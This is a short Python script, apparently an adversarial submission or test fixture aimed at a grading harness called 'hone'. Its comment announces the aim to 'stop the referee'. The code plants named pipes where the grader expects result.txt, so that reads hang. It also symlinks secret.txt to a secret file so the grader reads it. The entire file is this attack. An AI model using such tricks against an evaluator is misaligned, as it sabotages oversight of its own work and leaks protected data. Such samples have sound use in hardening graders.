# stop the referee | leaves pipes and links where hone looks for files, so that it hangs or reads a secret
import os
def attempt():
    for place in [os.environ.get("HONE_ARTIFACTS", "."), "."]:
        try:
            os.mkfifo(place + "/result.txt")
        except OSError:
            pass
        try:
            os.symlink("@CAMP@/secret", place + "/secret.txt")
        except OSError:
            pass
    return False
